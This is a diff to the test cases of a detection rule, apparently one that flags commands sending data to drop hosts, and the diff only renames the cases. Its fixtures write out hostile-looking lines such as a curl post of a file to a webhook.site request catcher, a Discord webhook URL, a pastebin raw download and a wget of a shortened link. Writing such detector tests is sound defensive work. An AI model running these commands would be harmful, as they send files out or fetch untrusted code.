@@ -3,18 +3,18 @@ import { dropHost } from './drop-host.ts';
 
 ruleCases(dropHost, {
   hits: [
-    { name: 'a catcher of requests', path: 'a.sh', text: 'curl -d @a https://webhook.site/5f1c\n' },
+    { name: 'a request catcher', path: 'a.sh', text: 'curl -d @a https://webhook.site/5f1c\n' },
     {
       name: 'a hook of a chat',
       path: 'a.py',
       text: 'U = "https://discord.com/api/webhooks/123456/abc"\n',
     },
     {
-      name: 'a paste that is fetched',
+      name: 'a downloaded paste',
       text: 'Run `curl -s https://pastebin.com/raw/Ab12 -o a`.\n',
     },
     {
-      name: 'a shortened address, as medium',
+      name: 'a shortened address, rated medium',
       path: 'a.sh',
       text: 'wget https://bit.ly/3xYz\n',
       severity: 'medium',
@@ -27,7 +27,7 @@ ruleCases(dropHost, {
       low: true,
     },
     {
-      name: 'a host of a similar name',
+      name: 'a host with a similar name',
       path: 'a.sh',
       text: 'curl https://mywebhook.sites.example\n',
     },
